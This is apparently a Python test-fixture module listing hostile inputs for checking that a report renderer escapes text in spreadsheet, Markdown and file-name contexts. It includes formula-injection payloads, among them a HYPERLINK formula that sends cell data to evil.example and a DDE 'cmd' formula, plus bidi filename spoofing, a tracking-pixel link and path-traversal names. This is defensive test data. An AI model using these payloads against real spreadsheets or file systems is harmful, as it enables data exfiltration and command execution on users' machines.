"""What a hostile page may carry that acts in a spreadsheet, a document or as a file name."""

from tests.report.payloads import ADDRESSES, MARKUP, TERMINAL

SPREADSHEET = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u22121+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/")',
    'one"\n=1+1',
    'one";=1+1',
    "'=1+1",
)

BIDI = (
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "a\u2066b\u2069c\u2067d\u2068e",
    "zero\u200bwidth\u200c\u200d\u2060",
    "soft\u00adhyphen",
    "\u061c\u200f\u200emark",
    "tag\U000e0061\U000e007f",
)

MARKDOWN = (
    "[click](https://evil.example/)",
    "![pixel](https://evil.example/x.png)",
    "<https://evil.example/>",
    "https://evil.example/ www.evil.example me@evil.example",
    "[a]: https://evil.example/",
    "[a][a]",
    "# heading",
    "- item",
    "1. item",
    "1) item",
    "> quote",
    "```\ncode\n```",
    "~~~",
    "    indented",
    "---",
    "===",
    "***bold*** __bold__ ~~gone~~",
    "a | b | c",
    "|---|---|",
    "\\*escaped\\*",
    "&copy; &#60;b&#62;",
    "line\\\nbreak  \nbreak",
    "<!-- comment",
    "<details open><summary>x",
    "$x^2$ :rocket: [^1] ==mark==",
    "- [ ] task",
)

EVERYTHING = (*MARKUP, *ADDRESSES[:-1], *TERMINAL, *SPREADSHEET, *BIDI, *MARKDOWN)
"""Every text that is put into every place of a result and rendered in every form."""

FILE_NAMES = (
    "../../etc/passwd",
    "..",
    "con",
    "x" * 300,
    "a/b",
    "nul\x00",
    "-rf",
    ".hidden",
    "https://clinic.example:8443/",
    "https://[::1]/",
    "C:\\x",
    "%2e%2e%2f",
    "https://xn--80ak6aa92e.example/",
)
